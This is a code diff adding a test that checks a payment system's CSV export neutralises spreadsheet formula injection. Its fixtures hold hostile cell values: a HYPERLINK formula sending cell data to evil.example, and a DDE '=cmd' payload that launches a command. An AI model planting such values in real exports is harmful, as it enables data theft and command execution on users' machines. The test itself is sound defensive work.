@@ -328,3 +328,21 @@ def test_an_export_stops_claiming_when_its_time_is_up(  # type: ignore[no-untype
     rest = exports.export_approved(ctx, now=clock.now, requested_by="t")
     assert rest.payments == 1
     assert sorted(exported_references(s3_objects())) == sorted(references)
+
+
+def test_the_export_never_hands_a_formula_to_a_spreadsheet(ctx, make_member, make_obligation, gateway):  # type: ignore[no-untyped-def]
+    """Values stored before the import refused them (or from elsewhere) are neutralised on the way out."""
+    make_member(full_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver saldo\")")
+    payment = approved_payment(ctx, gateway, make_obligation,
+                               obligations=(("=cmd|' /C calc'!A0", 60_000), ("@SUM(A1:A9)", 150_000)),
+                               key="k-formulas")
+    Payment(payment_id=payment.payment_id).update(actions=[Payment.bank_name.set("+1+1"),
+                                                           Payment.cus.set("-1+1")])
+    result = exports.export_approved(ctx, now=ctx.now(), requested_by="staff:test")
+    rows = parse_csv(result.csv_text)
+    assert [r["obligation_id"] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1:A9)"]
+    for row in rows:
+        assert row["full_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver saldo\")"
+        assert (row["bank_name"], row["cus"]) == ("'+1+1", "'-1+1")
+        assert all(value[:1] not in "=+-@\t\r" for value in row.values())
+    assert '"\'=cmd|\' /C calc\'!A0"' in result.csv_text  # prefixed and quoted
